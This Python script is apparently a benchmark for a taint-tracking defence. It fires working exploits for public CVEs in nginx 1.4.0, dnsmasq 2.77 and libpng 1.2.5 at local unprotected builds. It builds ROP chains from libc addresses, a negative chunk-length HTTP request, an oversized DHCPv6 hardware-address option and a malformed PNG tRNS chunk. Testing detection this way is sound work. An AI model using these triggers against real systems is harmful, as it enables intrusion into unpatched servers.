"""Old versions of real programs with public mistakes: their triggers succeed natively, and are caught when possessed.

    python bench/attacks.py --nginx PATH --dnsmasq PATH --libpng FOLDER      natively
    python bench/attacks.py … --possessed                                    in taint mode, with harmless traffic first
    ... --times 5                                                            each so often

None of the programs is part of this repository, and none is fetched. Each is an old version as its project published
it, built with gcc -O1 and without stack protection and fortification:
  nginx      1.4.0, the program: https://github.com/nginx/nginx, tag release-1.4.0.
             CVE-2013-2028: a chunk's length below zero; the rest goes to the stack
  dnsmasq    2.77, the program: https://github.com/imp/dnsmasq, tag v2.77.
             CVE-2017-14493: a hardware address as long as the peer says, in DHCPv6
  libpng     1.2.5, a folder with libpng.a, png.h and pngconf.h: https://github.com/glennrp/libpng, tag v1.2.5.
             CVE-2004-0597: more transparency than a palette has

The triggers are written from the advisories. Each brings addresses that lead to `pop rdi` and `_exit` in the process
itself, as the machine's owner reads them there, and has succeeded if the process ends with status 77. Everything
happens on the loopback, or in two network namespaces made for it, which needs root.
"""

from __future__ import annotations

import argparse
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
TESTS = HERE.parent / "tests"
sys.path[:] = [str(TESTS), *(place for place in sys.path if Path(place) != HERE)]

from possession.alarms import watched, why_not  # type: ignore[import-not-found]  # noqa: E402
from possession.assault import STATUS, WAYS, assailed  # type: ignore[import-not-found]  # noqa: E402

WAIT_S = 15.0
SETTLE_S = 3.0  # an alert is examined still when its process has ended


class NotThereError(Exception):
    """What is missing."""


def words(*numbers: int) -> bytes:
    """Pack 64-bit words."""
    return struct.pack(f"<{len(numbers)}Q", *numbers)


def wait_until(holds: object, why: str) -> None:
    """Wait for a function to say yes."""
    end_s = time.monotonic() + WAIT_S
    while not holds():  # type: ignore[operator]
        if time.monotonic() > end_s:
            raise NotThereError(why)
        time.sleep(0.02)


@dataclass(frozen=True, slots=True)
class Pieces:
    """Addresses in a process's C library: ways to end it with a status of one's own."""

    ret: int
    pop_rdi: int
    exit: int

    @staticmethod
    def of(pid: int) -> Pieces:
        """Read where the process's C library lies, and find the pieces in its file."""
        lines = Path(f"/proc/{pid}/maps").read_text().splitlines()
        line = next(line for line in lines if "libc.so" in line and " r-xp " in line)
        low, offset, path = int(line.split("-")[0], 16), int(line.split()[2], 16), line.split()[-1]
        size = int(line.split()[0].split("-")[1], 16) - low
        code = Path(path).read_bytes()[offset : offset + size]
        listed = subprocess.run(["nm", "-D", path], capture_output=True, text=True, check=True).stdout
        found = re.search(r"^([0-9a-f]+) . _exit@", listed, re.MULTILINE)
        assert found
        pop = code.index(b"\x5f\xc3")  # pop rdi; ret
        return Pieces(low + pop + 1, low + pop, low + int(found[1], 16) - offset)

    def chain(self, bytes_: int) -> bytes:
        """Fill so many bytes: ret, ret, … and the end."""
        end = words(self.pop_rdi, STATUS, self.exit)
        return words(self.ret) * ((bytes_ - len(end)) // 8) + end


@contextmanager
def tainted(pid: int, source: str, possess: bool) -> Iterator[object]:
    """Possess, if that is asked for."""
    if not possess:
        yield None
        return
    with watched(pid, source) as watch:
        yield watch


def judged(watch: object, status: object) -> str:
    """Say how it went. `status()` is the exit status once there is one; None while the process goes on."""
    end_s = time.monotonic() + WAIT_S
    while (ended := status()) is None and time.monotonic() < end_s:  # type: ignore[operator]
        time.sleep(0.01)
    if ended == STATUS:
        return "hijacked"
    kind = watch.first(SETTLE_S) if watch is not None else ""  # type: ignore[attr-defined]
    if kind:
        return f"caught {kind}"
    return "nothing" if ended is None else f"ended with {ended}"


# --- nginx 1.4.0 ------------------------------------------------------------------------------------------------------

HEAD = b"GET / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
LENGTH = b"fffffffffffffead"  # as a signed number it is below zero, so that it is the least of two
READ_BYTES_MAX, USER_END = 0x7FFFF000, 0x7FFFFFFFF000
PAGE = b"hello\n" * 50
DISCARDED_BYTES = 4096  # what the buffer on the stack holds


def nginx(program: Path, possess: bool) -> str:
    """Send a head that ends within the chunk's length, and when that is read, more than the buffer holds."""
    with tempfile.TemporaryDirectory(prefix="attack-nginx-") as name, socket.create_server(("127.0.0.1", 0)) as probe:
        place, port = Path(name), probe.getsockname()[1]
        probe.close()
        os.chmod(place, 0o755)
        (place / "logs").mkdir()
        (place / "index.html").write_bytes(PAGE)
        temporary = " ".join(f"{w}_temp_path {place};" for w in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi"))
        (place / "conf").write_text(f"""
            daemon off; pid {place}/pid; error_log {place}/error.log notice; worker_processes 1; user root root;
            events {{ worker_connections 64; }}
            http {{ access_log off; {temporary} server {{ listen 127.0.0.1:{port}; root {place}; }} }}""")
        line = [program, "-p", place, "-c", place / "conf"]
        master = subprocess.Popen(line, stderr=subprocess.DEVNULL)
        try:
            wait_until(lambda: children(master.pid), "nginx does not start its worker")
            worker = children(master.pid)[0]
            if not has_room(worker):
                return nginx(program, possess)
            wait_until(lambda: accepts(port), "nginx does not accept")

            def status() -> int | None:
                log = (place / "error.log").read_text()
                found = re.search(rf"worker process {worker} exited (?:with code|on signal) (\d+)", log)
                return int(found[1]) if found else None

            with tainted(worker, "inet", possess) as watch:
                for _ in range(20):
                    with socket.create_connection(("127.0.0.1", port), WAIT_S) as peer:
                        peer.sendall(b"GET / HTTP/1.0\r\n\r\n")
                        if not read_all(peer).endswith(b"hello\n"):
                            return "no answer to harmless requests"
                if watch is not None and watch.kinds():  # type: ignore[attr-defined]
                    return "alarm before the attack"
                with socket.create_connection(("127.0.0.1", port), WAIT_S) as peer:
                    peer.sendall(HEAD + LENGTH)
                    heard = b""
                    while not heard.endswith(PAGE):  # so the rest of the body is waited for, to be thrown away
                        heard += peer.recv(65536)
                    peer.sendall(Pieces.of(worker).chain(DISCARDED_BYTES + 512))
                    return judged(watch, status)
        finally:
            master.terminate()
            try:
                master.wait(WAIT_S)
            except subprocess.TimeoutExpired:
                for pid in (*children(master.pid), master.pid):
                    os.kill(pid, signal.SIGKILL)
                master.wait(WAIT_S)


def has_room(pid: int) -> bool:
    """Whether the stack lies so low that the kernel believes in a read of the greatest size there; mostly it does."""
    line = next(line for line in Path(f"/proc/{pid}/maps").read_text().splitlines() if line.endswith("[stack]"))
    return int(line.split()[0].split("-")[1], 16) + READ_BYTES_MAX < USER_END


def read_all(peer: socket.socket) -> bytes:
    """Read to the end."""
    heard = b""
    while piece := peer.recv(65536):
        heard += piece
    return heard


def accepts(port: int) -> bool:
    """Whether somebody listens."""
    try:
        socket.create_connection(("127.0.0.1", port), 1).close()
    except OSError:
        return False
    return True


def children(pid: int) -> list[int]:
    """Return a process's children."""
    return [int(word) for word in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]


# --- dnsmasq 2.77 -----------------------------------------------------------------------------------------------------

NETWORK, SERVER_PORT = "fd00:7::", 547
SERVER, CLIENT = NETWORK + "1", NETWORK + "2"
RELAY_FORWARD, SOLICIT, CLIENT_ID, CLIENT_MAC = 12, 1, 1, 79


def option(number: int, data: bytes) -> bytes:
    """Encode an option of DHCPv6 (RFC 8415 §21.1)."""
    return struct.pack(">HH", number, len(data)) + data


def relayed(mac: bytes) -> bytes:
    """Encode a message of a relay, with the client's hardware address (RFC 6939)."""
    link = socket.inet_pton(socket.AF_INET6, SERVER)
    peer = socket.inet_pton(socket.AF_INET6, "fe80::1")
    inner = struct.pack(">B3s", SOLICIT, b"\1\2\3") + option(CLIENT_ID, b"\0\1\0\1\0\0\0\0\2\0\0\0\0\1")
    return bytes((RELAY_FORWARD, 0)) + link + peer + option(CLIENT_MAC, b"\0\1" + mac) + option(9, inner)


def dnsmasq(program: Path, possess: bool) -> str:
    """Relay a hardware address that is longer than one."""
    with two_namespaces() as (theirs, ours), tempfile.TemporaryDirectory(prefix="attack-dnsmasq-") as place:
        server = subprocess.Popen(
            ["ip", "netns", "exec", theirs, str(program), "-k", "-C", "/dev/null", "-p", "0", "-i", "served",
             "-u", "root", "--log-facility=-", f"--dhcp-range={NETWORK}10,{NETWORK}20,64,1h",
             f"--dhcp-leasefile={place}/leases", "--pid-file"],
            stderr=subprocess.DEVNULL,
        )  # fmt: skip
        try:
            wait_until(lambda: is_bound(theirs), "dnsmasq does not listen for DHCPv6")
            wait_until(lambda: "libc.so" in Path(f"/proc/{server.pid}/maps").read_text(), "dnsmasq does not start")
            with tainted(server.pid, "inet", possess) as watch:
                for number in range(5):
                    if not sent(ours, relayed(bytes((2, 0, 0, 0, 0, number)))):
                        return "no answer to harmless messages"
                if watch is not None and watch.kinds():  # type: ignore[attr-defined]
                    return "alarm before the attack"
                sent(ours, relayed(Pieces.of(server.pid).chain(600)), is_answered=False)
                return judged(watch, server.poll)
        finally:
            server.kill()
            server.wait(WAIT_S)


@contextmanager
def two_namespaces() -> Iterator[tuple[str, str]]:
    """Make two network namespaces with a cable between them; take them away at the end."""
    theirs, ours = (f"attack-{name}-{os.getpid()}" for name in ("server", "client"))
    run = lambda *line: subprocess.run(line, check=True, capture_output=True)  # noqa: E731
    try:
        for name in (theirs, ours):
            run("ip", "netns", "add", name)
            run("ip", "-n", name, "link", "set", "lo", "up")
        run("ip", "-n", theirs, "link", "add", "served", "type", "veth", "peer", "name", "client", "netns", ours)
        for name, interface, address in ((theirs, "served", SERVER), (ours, "client", CLIENT)):
            run("ip", "-n", name, "addr", "add", f"{address}/64", "dev", interface, "nodad")
            run("ip", "-n", name, "link", "set", interface, "up")
        yield theirs, ours
    finally:
        for name in (theirs, ours):
            subprocess.run(["ip", "netns", "del", name], capture_output=True)


def is_bound(namespace: str) -> bool:
    """Whether somebody has the server's port there."""
    listed = subprocess.run(["ip", "netns", "exec", namespace, "cat", "/proc/net/udp6"], capture_output=True, text=True)
    return f":{SERVER_PORT:04X} " in listed.stdout


def sent(namespace: str, message: bytes, *, is_answered: bool = True) -> bool:
    """Send a message from a namespace; whether an answer came."""
    line = ["ip", "netns", "exec", namespace, sys.executable, str(Path(__file__).resolve()), "--send", message.hex()]
    done = subprocess.run([*line, *([] if is_answered else ["--times", "0"])], capture_output=True, text=True)
    return done.returncode == 0


def send(message: bytes, is_answered: bool) -> int:
    """Send it, within the namespace."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as peer:
        peer.bind(("::", SERVER_PORT))  # a relay is answered at the server's port
        peer.settimeout(WAIT_S)
        peer.sendto(message, (SERVER, SERVER_PORT))
        try:
            return int(is_answered and not peer.recv(4096))
        except TimeoutError:
            return 1


# --- libpng 1.2.5 -----------------------------------------------------------------------------------------------------


PALETTE_BYTES = 256  # what the buffer on the stack holds


def chunk(kind: bytes, data: bytes) -> bytes:
    """Encode a chunk of PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*more: bytes, palette: bool = True) -> bytes:
    """Return a picture of 4 by 4 with a palette, and further chunks before its pixels."""
    pixels = b"".join(b"\0" + bytes((row, 1, 2, 3)) for row in range(4))
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 3, 0, 0, 0))
    colours = chunk(b"PLTE", bytes(range(24))) if palette else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + colours
        + b"".join(more)
        + chunk(b"IDAT", zlib.compress(pixels))
        + chunk(b"IEND", b"")
    )


def libpng(folder: Path, possess: bool) -> str:
    """Serve pictures to a client: some as they are, then one whose transparency has no palette to be measured by."""
    with tempfile.TemporaryDirectory(prefix="attack-png-") as place:
        client = Path(place) / "client"
        line = ["gcc", "-O1", "-w", "-fno-stack-protector", f"-I{TESTS / 'victims' / 'taint'}", f"-I{folder}",
                "-o", client, HERE / "attack_png.c", folder / "libpng.a", "-lz", "-lm", "-pthread"]  # fmt: skip
        if subprocess.run(line).returncode:
            raise NotThereError("the client of libpng does not build: apt-get install zlib1g-dev?")
        with assailed([str(client)], WAYS["fetch"]) as victim, tainted(victim.pid, "inet", possess) as watch:
            talk = victim.conversation()
            for picture in (png(), png(chunk(b"tRNS", bytes(8))), png(palette=False)[:60]):
                talk.ask(picture)
            if watch is not None and watch.kinds():  # type: ignore[attr-defined]
                return "alarm before the attack"
            too_much = Pieces.of(victim.pid).chain(PALETTE_BYTES + 64)
            talk.send(png(chunk(b"tRNS", too_much), palette=False))
            return judged(watch, victim.process.poll)


ATTACKS = {"nginx": nginx, "dnsmasq": dnsmasq, "libpng": libpng}


def main() -> int:
    """Play what there is a program for."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    for name in ATTACKS:
        parser.add_argument(f"--{name}", type=Path)
    parser.add_argument("--possessed", action="store_true")
    parser.add_argument("--times", type=int, default=3)
    parser.add_argument("--send", type=bytes.fromhex, help=argparse.SUPPRESS)
    arguments = parser.parse_args()
    if arguments.send:
        return send(arguments.send, bool(arguments.times))
    if arguments.possessed and (reason := why_not()):
        raise SystemExit(reason)
    programs = {name: getattr(arguments, name) for name in ATTACKS if getattr(arguments, name) is not None}
    if not programs:
        parser.error("name one of the old programs at least; --help says which versions, and where their sources are")
    for name, program in programs.items():
        if not (program / "libpng.a" if name == "libpng" else program).is_file():
            parser.error(f"--{name}: {program} is not there, or not what --help asks for")
    is_wrong = False
    for name, program in programs.items():
        attack = ATTACKS[name]
        outcomes = [attack(program.resolve(), arguments.possessed) for _ in range(arguments.times)]
        print(f"{name:8} {', '.join(outcomes)}", flush=True)
        wanted = "caught" if arguments.possessed else "hijacked"
        is_wrong |= not all(outcome.startswith(wanted) for outcome in outcomes)
    return int(is_wrong)


if __name__ == "__main__":
    sys.exit(main())
